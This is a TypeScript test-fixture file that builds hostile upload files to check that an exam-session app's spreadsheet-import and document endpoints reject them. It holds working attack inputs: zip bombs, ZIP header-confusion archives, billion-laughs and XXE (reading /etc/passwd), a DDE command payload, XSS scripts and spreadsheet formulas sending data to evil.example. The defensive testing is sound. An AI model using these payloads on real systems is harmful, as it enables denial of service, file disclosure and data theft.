import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import * as XLSX from 'xlsx'
import { bombStream, type Cell, candidateRow, contentXml, HEADER, manifest, ods, participantsSheet, tableXml, zip, type ZipEntry } from './ods.ts'

export interface HostileFile {
  name: string
  filename: string
  bytes: Buffer
  type?: string
}

const MB = 1024 * 1024
const rows = (n: number, from = 0) => Array.from({ length: n }, (_, i) => candidateRow(from + i))
const long = (n: number) => 'A'.repeat(n)
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'), Buffer.alloc(64)])
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(512, 0x90)])
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')

/** A password-protected .ods made by LibreOffice (Python-UNO), or null when LibreOffice is not installed. */
function protectedByLibreOffice(): Buffer | null {
  const script = path.resolve(import.meta.dirname, '../sweeps/fixtures/protected-ods.py')
  if (!existsSync('/usr/bin/python3') || !existsSync('/usr/lib/python3/dist-packages/uno.py')) return null
  const dir = mkdtempSync(path.join(tmpdir(), 'certisalle-lo-'))
  try {
    const out = path.join(dir, 'protege.ods')
    execFileSync('/usr/bin/python3', [script, out, 'motdepasse'], { timeout: 120_000, stdio: 'ignore' })
    return readFileSync(out)
  } catch {
    return null
  } finally {
    rmSync(dir, { recursive: true, force: true })
  }
}

/** An .ods whose content is encrypted, as LibreOffice writes one (manifest encryption data, unreadable content). */
function handMadeEncrypted(): Buffer {
  const encryption =
    '<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k" manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="AAAAAAAAAAAAAAAAAAAAAA=="/><manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count="100000" manifest:salt="AAAAAAAAAAAAAAAAAAAAAA=="/></manifest:encryption-data>'
  return zip([
    { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true },
    { name: 'META-INF/manifest.xml', data: Buffer.from(manifest(undefined, encryption)) },
    { name: 'content.xml', data: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)), store: true },
  ])
}

/**
 * Where one entry's two headers sit in an archive made by `zip()` (no extra fields, no comments):
 * the local header in front of the data and the record of the central directory.
 */
function headersOf(archive: Buffer, name: string): { local: number; central: number } {
  const eocd = archive.length - 22
  let p = archive.readUInt32LE(eocd + 16)
  for (let i = 0; i < archive.readUInt16LE(eocd + 10); i++) {
    const nameLength = archive.readUInt16LE(p + 28)
    if (archive.toString('latin1', p + 46, p + 46 + nameLength) === name) return { local: archive.readUInt32LE(p + 42), central: p }
    p += 46 + nameLength
  }
  throw new Error(`no entry ${name}`)
}

/** The repeat bomb of issue 10: one cell, 64 columns wide, on 1,048,575 rows (1.3 KB zipped; SheetJS tries to store 67 million cells). */
export const REPEAT_BOMB = contentXml(
  `<table:table table:name="A"><table:table-row table:number-rows-repeated="1048575"><table:table-cell table:number-columns-repeated="64" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`,
)
const HARMLESS = contentXml(tableXml('A', [HEADER, candidateRow(0)]))
const MIMETYPE = { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true }
const STYLES = {
  name: 'styles.xml',
  data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
}
const odsOf = (...entries: ZipEntry[]) => zip([MIMETYPE, { name: 'META-INF/manifest.xml', data: Buffer.from(manifest()) }, ...entries, STYLES])

/**
 * Archives whose central directory and local headers disagree (issue 10, item 1), made here so
 * that each differs from a sound .ods by one trait. A reader that trusts the central directory
 * (as the old pre-scan did) and one that trusts the local headers (as SheetJS does) see two
 * different files: the first two show the scan a harmless content.xml and SheetJS the repeat
 * bomb. Every one must be refused before SheetJS reads it.
 */
export function differentialCorpus(): HostileFile[] {
  const files: HostileFile[] = []
  const add = (name: string, bytes: Buffer) => files.push({ name: `differential archive: ${name}`, filename: 'liste.ods', bytes })
  const patched = (entries: ZipEntry[], patch: (archive: Buffer) => void) => {
    const archive = odsOf(...entries)
    patch(archive)
    return archive
  }
  const content = (data: string) => ({ name: 'content.xml', data: Buffer.from(data) })

  // (a) The method: the central directory says content.xml is stored, its local header says deflated.
  add(
    'content.xml stored for the central directory, deflated for its local header',
    patched([content(REPEAT_BOMB)], (a) => a.writeUInt16LE(0, headersOf(a, 'content.xml').central + 10)),
  )
  // (b) The name: the central directory calls the harmless entry content.xml, the local headers call the bomb so.
  add(
    'names swapped between the central directory and the local headers',
    patched([content(HARMLESS), { name: 'setting.xml', data: Buffer.from(REPEAT_BOMB) }], (a) => {
      const harmless = headersOf(a, 'content.xml').local
      const bomb = headersOf(a, 'setting.xml').local
      a.write('setting.xml', harmless + 30, 'latin1')
      a.write('content.xml', bomb + 30, 'latin1')
    }),
  )
  // Sizes and CRC.
  add(
    'compressed size differs between the headers',
    patched([content(HARMLESS)], (a) => a.writeUInt32LE(a.readUInt32LE(headersOf(a, 'content.xml').local + 18) + 1, headersOf(a, 'content.xml').local + 18)),
  )
  add(
    'uncompressed size differs between the headers',
    patched([content(HARMLESS)], (a) => a.writeUInt32LE(64, headersOf(a, 'content.xml').central + 24)),
  )
  add(
    'CRC differs between the headers',
    patched([content(HARMLESS)], (a) => a.writeUInt32LE(0xdeadbeef, headersOf(a, 'content.xml').local + 14)),
  )
  add(
    'both headers agree on a false size (the data inflates to more)',
    patched([content(HARMLESS)], (a) => {
      const { local, central } = headersOf(a, 'content.xml')
      a.writeUInt32LE(100, local + 22)
      a.writeUInt32LE(100, central + 24)
    }),
  )
  add(
    'both headers agree on a false CRC',
    patched([content(HARMLESS)], (a) => {
      const { local, central } = headersOf(a, 'content.xml')
      a.writeUInt32LE(1, local + 14)
      a.writeUInt32LE(1, central + 16)
    }),
  )
  add(
    'flags differ between the headers (data descriptor announced in one only)',
    patched([content(HARMLESS)], (a) => a.writeUInt16LE(0x0808, headersOf(a, 'content.xml').local + 6)),
  )
  // Duplicate names, exact or as SheetJS compares them (no case, \ for /).
  add('content.xml twice (harmless, then the bomb)', odsOf(content(HARMLESS), content(REPEAT_BOMB)))
  add('content.xml and CONTENT.XML', odsOf(content(HARMLESS), { name: 'CONTENT.XML', data: Buffer.from(REPEAT_BOMB) }))
  add('META-INF/manifest.xml and META-INF\\manifest.xml', odsOf(content(HARMLESS), { name: 'META-INF\\manifest.xml', data: Buffer.from(manifest()) }))
  // Entries that overlap: two records of the central directory for one local header.
  add(
    'two central records pointing at one local header',
    patched([content(HARMLESS), { name: 'settings.xml', data: Buffer.from('<x/>') }], (a) =>
      a.writeUInt32LE(headersOf(a, 'content.xml').local, headersOf(a, 'settings.xml').central + 42),
    ),
  )
  // A ZIP64 extra field, which SheetJS reads to replace the sizes of the headers.
  add(
    'ZIP64 extra field in a local header',
    (() => {
      const a = odsOf(content(HARMLESS))
      const { local } = headersOf(a, 'content.xml')
      const nameEnd = local + 30 + 'content.xml'.length
      const extra = Buffer.alloc(20)
      extra.writeUInt16LE(0x0001, 0)
      extra.writeUInt16LE(16, 2)
      const out = Buffer.concat([a.subarray(0, nameEnd), extra, a.subarray(nameEnd)])
      out.writeUInt16LE(20, local + 28)
      // every later offset moves by 20 bytes
      const eocd = out.length - 22
      out.writeUInt32LE(out.readUInt32LE(eocd + 16) + 20, eocd + 16)
      let p = out.readUInt32LE(eocd + 16)
      for (let i = 0; i < out.readUInt16LE(eocd + 10); i++) {
        const offset = out.readUInt32LE(p + 42)
        if (offset > local) out.writeUInt32LE(offset + 20, p + 42)
        p += 46 + out.readUInt16LE(p + 28)
      }
      return out
    })(),
  )
  // The end record: bytes after it, or a second one.
  add('bytes after the end of the central directory', Buffer.concat([odsOf(content(HARMLESS)), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]))
  return files
}

/**
 * Files inside every limit of the pre-scan that still cost SheetJS seconds and hundreds of MB:
 * what the reader's own time and memory limits are for.
 */
export function heavyTextSheet(): Buffer {
  const text = 'x'.repeat(190_000)
  const row = `<table:table-row><table:table-cell office:value-type="string"><text:p>${text}</text:p></table:table-cell></table:table-row>`
  return ods([], { content: contentXml(`<table:table table:name="A">${row.repeat(200)}</table:table>`) })
}

/** 9,900 rows of 20 filled cells (198,000 cells, just under the pre-scan's limit), no header. */
export function manyCellsSheet(): Buffer {
  const row = `<table:table-row>${Array.from({ length: 20 }, (_, i) => `<table:table-cell office:value-type="string"><text:p>c${i}</text:p></table:table-cell>`).join('')}</table:table-row>`
  return ods([], { content: contentXml(`<table:table table:name="A">${row.repeat(9_900)}</table:table>`) })
}

/**
 * At least 30 bad spreadsheets for POST /sessions/:sessionId/candidats/import. Each must be refused (4xx, French
 * message) and change nothing. `template` is the app's own download, when it exists, so the "almost valid"
 * files have exactly the app's layout and differ from a good file only by their one hostile trait.
 */
export function importCorpus(template?: Buffer): HostileFile[] {
  const sheet = (r: Cell[][]) => participantsSheet(r, template)
  const withRow = (overrides: Parameters<typeof candidateRow>[1]) => sheet([candidateRow(0), candidateRow(1, overrides), candidateRow(2)])
  const files: HostileFile[] = [
    // Wrong types renamed .ods
    { name: 'PDF renamed .ods', filename: 'liste.ods', bytes: PDF },
    { name: 'PNG renamed .ods', filename: 'liste.ods', bytes: PNG },
    { name: 'Windows executable renamed .ods', filename: 'liste.ods', bytes: EXE },
    { name: 'HTML with a script renamed .ods', filename: 'liste.ods', bytes: HTML },
    { name: 'CSV text renamed .ods', filename: 'liste.ods', bytes: Buffer.from([HEADER.join(';'), '1;Dupont;Julie;13/03/1996;Le Havre;76;France'].join('\n')) },
    {
      name: 'OpenDocument text (.odt) renamed .ods',
      filename: 'liste.ods',
      bytes: ods([], {
        mimetype: 'application/vnd.oasis.opendocument.text',
        content:
          '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body><office:text/></office:body></office:document-content>',
      }),
    },
    { name: 'random bytes', filename: 'liste.ods', bytes: Buffer.from(Array.from({ length: 20_000 }, (_, i) => (i * 2654435761) % 251)) },
    { name: 'empty file', filename: 'liste.ods', bytes: Buffer.alloc(0) },
    // Broken archives
    { name: 'truncated zip (half of a good .ods)', filename: 'liste.ods', bytes: sheet(rows(20)).subarray(0, Math.floor(sheet(rows(20)).length / 2)) },
    { name: 'zip signature then garbage', filename: 'liste.ods', bytes: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(2000, 0x41)]) },
    {
      name: 'zip without content.xml',
      filename: 'liste.ods',
      bytes: zip([{ name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true }]),
    },
    { name: 'content.xml that is not XML', filename: 'liste.ods', bytes: ods([], { content: '\u0000\u0001 ceci n’est pas du XML <<<' }) },
    // Resource exhaustion
    {
      name: 'zip bomb (content.xml inflates to 1 GB)',
      filename: 'liste.ods',
      bytes: zip([
        { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true },
        { name: 'META-INF/manifest.xml', data: Buffer.from(manifest()) },
        {
          name: 'content.xml',
          raw: bombStream(
            contentXml('<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>').replace(
              /<\/office:spreadsheet>.*$/,
              '',
            ),
            Buffer.alloc(MB, 0x20),
            1024,
            '</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>',
          ),
        },
      ]),
    },
    {
      name: 'zip bomb whose header lies about its size',
      filename: 'liste.ods',
      bytes: (() => {
        const bomb = bombStream('<?xml version="1.0"?><x>', Buffer.alloc(MB, 0x20), 512, '</x>')
        return zip([
          { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true },
          { name: 'content.xml', raw: { ...bomb, size: 2048 } },
        ])
      })(),
    },
    { name: '38 MB of text in 200 cells (49 KB zipped)', filename: 'liste.ods', bytes: heavyTextSheet() },
    {
      name: '6 MB file',
      filename: 'liste.ods',
      bytes: ods([{ name: 'A', rows: [HEADER, ...rows(3)] }], {
        extraEntries: [{ name: 'Pictures/remplissage.bin', data: Buffer.from(Array.from({ length: 6 * MB }, (_, i) => (i * 2654435761) % 256)), store: true }],
      }),
    },
    { name: '10,000 rows', filename: 'liste.ods', bytes: sheet(rows(10_000)) },
    {
      name: 'one row repeated a million times (table:number-rows-repeated)',
      filename: 'liste.ods',
      bytes: ods([], {
        content: contentXml(
          `<table:table table:name="A">${tableXml('x', [HEADER]).replace(/^<table:table[^>]*>|<\/table:table>$/g, '')}<table:table-row table:number-rows-repeated="1000000">${candidateRow(
            0,
          )
            .map((c) =>
              typeof c === 'string' || typeof c === 'number'
                ? `<table:table-cell office:value-type="string"><text:p>${c}</text:p></table:table-cell>`
                : '<table:table-cell/>',
            )
            .join('')}</table:table-row></table:table>`,
        ),
      }),
    },
    {
      name: 'a cell repeated 16,384 columns wide, a million rows',
      filename: 'liste.ods',
      bytes: ods([], {
        content: contentXml(
          `<table:table table:name="A"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`,
        ),
      }),
    },
    {
      name: 'deeply nested XML (100,000 levels)',
      filename: 'liste.ods',
      bytes: ods([], {
        content: contentXml(
          `<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>${'<text:span>'.repeat(100_000)}Dupont${'</text:span>'.repeat(100_000)}</text:p></table:table-cell></table:table-row></table:table>`,
        ),
      }),
    },
    {
      name: 'XML entity expansion ("billion laughs")',
      filename: 'liste.ods',
      bytes: ods([], {
        content: contentXml(
          `<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>&lol9;</text:p></table:table-cell></table:table-row></table:table>`,
          `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">${Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i + 1};`.repeat(10)}">`).join('')}]>`,
        ),
      }),
    },
    {
      name: 'external entity (XXE) in the header',
      filename: 'liste.ods',
      bytes: ods([], {
        content: contentXml(tableXml('A', [HEADER]).replace('Nom de naissance', '&xxe;'), '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
      }),
    },
    // Hostile cell contents
    {
      name: 'formula cell (HYPERLINK) as a name',
      filename: 'liste.ods',
      bytes: withRow({ last: { formula: 'of:=HYPERLINK("http://evil.example/";"Dupont")', text: 'Dupont' } }),
    },
    {
      name: 'formula cell (WEBSERVICE) as an e-mail',
      filename: 'liste.ods',
      bytes: withRow({ email: { formula: 'of:=WEBSERVICE("http://evil.example/?"&[.B2])', text: 'julie@example.org' } }),
    },
    { name: 'DDE payload typed as text', filename: 'liste.ods', bytes: withRow({ last: "=cmd|' /C calc'!A0" }) },
    { name: 'formula-looking text (=1+1) as a first name', filename: 'liste.ods', bytes: withRow({ first: '=1+1' }) },
    { name: 'NUL character in a name', filename: 'liste.ods', bytes: withRow({ last: 'Dup\u0000ont' }) },
    { name: 'escape character in a name', filename: 'liste.ods', bytes: withRow({ last: 'Dup\u001b[31mont' }) },
    { name: 'bell and backspace in a city', filename: 'liste.ods', bytes: withRow({ city: 'Le\u0007 Hav\u0008re' }) },
    { name: 'vertical tab in a first name', filename: 'liste.ods', bytes: withRow({ first: 'Ju\u000blie' }) },
    { name: '2,000-character name', filename: 'liste.ods', bytes: withRow({ last: long(2000) }) },
    { name: '2,000-character first name', filename: 'liste.ods', bytes: withRow({ first: long(2000) }) },
    { name: '2,000-character e-mail', filename: 'liste.ods', bytes: withRow({ email: `${long(2000)}@example.org` }) },
    { name: '2,000-character birth city', filename: 'liste.ods', bytes: withRow({ city: long(2000) }) },
    { name: '2,000-character local id', filename: 'liste.ods', bytes: withRow({ local: long(2000) }) },
    // Wrong shape
    {
      name: 'header in English',
      filename: 'liste.ods',
      bytes: ods([{ name: 'A', rows: [['#', 'Last name', 'First name', 'Birthdate', 'Birth city', 'Department', 'Country'], ...rows(3)] }]),
    },
    {
      name: 'header without the first-name column',
      filename: 'liste.ods',
      bytes: ods([{ name: 'A', rows: [HEADER.filter((h) => h !== 'Prénom'), ...rows(3).map((r) => r.filter((_, i) => i !== 2))] }]),
    },
    { name: 'rows without any header', filename: 'liste.ods', bytes: ods([{ name: 'A', rows: rows(5) }]) },
    { name: 'empty sheet', filename: 'liste.ods', bytes: ods([{ name: 'A', rows: [] }]) },
    { name: 'header only, no candidate', filename: 'liste.ods', bytes: sheet([]) },
    // Ambiguous: importing one of the two lists would silently drop the other's candidates.
    {
      name: 'several sheets, each with its own list',
      filename: 'liste.ods',
      bytes: ods([
        { name: 'Salle 1', rows: [HEADER, ...rows(3)] },
        { name: 'Salle 2', rows: [HEADER, ...rows(3, 100)] },
        { name: 'Salle 3', rows: [HEADER, ...rows(3, 200)] },
      ]),
    },
    // Valid shape, invalid rows (all-or-nothing)
    { name: 'impossible date (31/02/2000)', filename: 'liste.ods', bytes: withRow({ birthdate: '31/02/2000' }) },
    { name: 'date in the future', filename: 'liste.ods', bytes: withRow({ birthdate: '01/01/2999' }) },
    { name: 'extra time of 150 %', filename: 'liste.ods', bytes: withRow({ extra: 150 }) },
    { name: 'same candidate twice', filename: 'liste.ods', bytes: sheet([candidateRow(0), candidateRow(0), candidateRow(1)]) },
    { name: 'good rows then one bad row at the end of 500', filename: 'liste.ods', bytes: sheet([...rows(499), candidateRow(499, { dept: '20' })]) },
  ]
  files.push(...differentialCorpus())
  const protectedOds = protectedByLibreOffice()
  files.push({ name: 'password-protected .ods (hand-made encryption manifest)', filename: 'liste.ods', bytes: handMadeEncrypted() })
  if (protectedOds) files.push({ name: 'password-protected .ods made by LibreOffice', filename: 'liste.ods', bytes: protectedOds })
  return files
}

/** Bad files for POST /sessions/:sessionId/finalisation/documents (fraud reports, screenshots: PDF and images only). */
export function documentCorpus(): Array<HostileFile & { comment?: string }> {
  const book = XLSX.utils.book_new()
  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([['Rapport'], ['Fraude']]), 'Rapport')
  const xlsx = XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer | undefined
  return [
    { name: 'Windows executable renamed .pdf', filename: 'rapport.pdf', bytes: EXE, type: 'application/pdf' },
    { name: 'HTML with a script renamed .png', filename: 'capture.png', bytes: HTML, type: 'image/png' },
    { name: 'HTML with a script', filename: 'page.html', bytes: HTML, type: 'text/html' },
    {
      name: 'SVG with a script',
      filename: 'capture.svg',
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      type: 'image/svg+xml',
    },
    { name: 'JavaScript file', filename: 'script.js', bytes: Buffer.from('alert(document.cookie)'), type: 'text/javascript' },
    { name: 'zip renamed .jpg', filename: 'photo.jpg', bytes: zip([{ name: 'a.txt', data: Buffer.from('a') }]), type: 'image/jpeg' },
    { name: 'text renamed .pdf', filename: 'rapport.pdf', bytes: Buffer.from('Ceci n’est pas un PDF.'), type: 'application/pdf' },
    { name: 'empty file', filename: 'rapport.pdf', bytes: Buffer.alloc(0), type: 'application/pdf' },
    { name: '11 MB PDF (over the 10 MB limit)', filename: 'rapport.pdf', bytes: Buffer.concat([PDF, Buffer.alloc(11 * MB, 0x20)]), type: 'application/pdf' },
    { name: 'comment of 60,000 characters', filename: 'rapport.pdf', bytes: PDF, type: 'application/pdf', comment: long(60_000) },
    ...(xlsx ? [{ name: 'spreadsheet renamed .pdf', filename: 'rapport.pdf', bytes: xlsx, type: 'application/pdf' }] : []),
  ]
}
